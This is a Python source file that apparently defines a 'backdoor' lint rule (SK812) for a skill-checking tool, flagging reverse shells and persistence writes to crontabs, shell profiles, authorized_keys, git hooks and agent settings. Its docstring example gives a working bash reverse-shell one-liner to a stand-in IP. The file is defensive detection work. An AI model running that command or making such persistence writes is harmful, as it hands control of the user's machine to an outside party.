"""Something stays after the task, or lets somebody in.

## What it does
Looks for shells that are handed to a socket (an error); for writes to files that a login, a timer, git or an agent
reads by itself (shell profiles, crontabs, LaunchAgents, `authorized_keys`, git hooks, agent settings and memory); for
hooks that reach the network. Where the skill's description says that it sets such files up, a write is a note.

## Why is this bad
It outlives the skill, and the user does not see it.

## Example
`bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`

## Use instead
Let the user set up what must run regularly, and say so in the description.
"""

from skillkit.rules import rule
from skillkit.safety import violations

check = rule("SK812", "backdoor", "safety", "warning")(lambda folder: violations(folder, "SK812"))
